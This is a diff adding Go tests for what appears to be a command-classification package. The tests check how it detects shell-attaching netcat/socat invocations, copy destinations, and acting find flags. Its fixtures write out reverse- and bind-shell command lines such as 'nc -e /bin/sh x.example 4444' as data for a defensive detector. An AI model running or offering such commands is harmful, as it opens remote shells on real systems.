@@ -1,6 +1,9 @@
 package programs
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func TestLookupVersionedNames(t *testing.T) {
 	for name, want := range map[string]string{
@@ -85,5 +88,58 @@ func TestSkip(t *testing.T) {
 	i, flags := Skip(len(words), func(k int) (string, bool) { return words[k], true }, S("n"))
 	if i != 3 || flags["n"] != "5" {
 		t.Errorf("Skip = %d %v", i, flags)
+	}
+}
+
+func TestAttaches(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		args []string
+		want bool
+	}{
+		{"nc", []string{"-e", "/bin/sh", "x.example", "4444"}, true},
+		{"ncat", []string{"-lvpe", "/bin/sh", "4444"}, true},
+		{"netcat", []string{"--sh-exec=id", "x.example", "1"}, true},
+		{"nc", []string{"-zv", "localhost", "5432"}, false},
+		{"socat", []string{"TCP:x.example:4444", "EXEC:/bin/sh"}, true},
+		{"socat", []string{"TCP-LISTEN:8080,fork", "TCP:localhost:3000"}, false},
+	} {
+		p := Lookup(c.name)
+		if got := p.Attaches != nil && p.Attaches(c.args); got != c.want {
+			t.Errorf("%s %v: Attaches = %v", c.name, c.args, got)
+		}
+	}
+}
+
+func TestCopyDest(t *testing.T) {
+	for _, c := range []struct {
+		name       string
+		args       []string
+		srcs, dest string
+	}{
+		{"cp", []string{"-r", "a", "b", "dir/"}, "a b", "dir/"},
+		{"cp", []string{"-t", "/tmp", "a", "b"}, "a b", "/tmp"},
+		{"install", []string{"-m", "755", "x", "/usr/local/bin/"}, "x", "/usr/local/bin/"},
+		{"rsync", []string{"-e", "ssh -p 2", "-t", "a/", "h:b/"}, "a/", "h:b/"},
+		{"mv", []string{"only"}, "only", ""},
+	} {
+		srcs, dest := Lookup(c.name).CopyDest(c.args)
+		if strings.Join(srcs, " ") != c.srcs || dest != c.dest {
+			t.Errorf("%s %v: CopyDest = %v %q", c.name, c.args, srcs, dest)
+		}
+	}
+	if !Is("scp", Copier|Archiver) || !Is("7za", Archiver) || Is("mv", Archiver) || Is("mv", Deleter) {
+		t.Error("kinds of the copiers and archivers")
+	}
+}
+
+func TestFindActs(t *testing.T) {
+	for _, a := range []string{"-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fls"} {
+		if !FindActs(a) {
+			t.Errorf("FindActs(%s) = false", a)
+		}
+	}
+	if FindActs("-name") || FindActs("-print") || FindRuns("-delete") {
+		t.Error("FindActs/FindRuns of a test or -delete")
 	}
 }
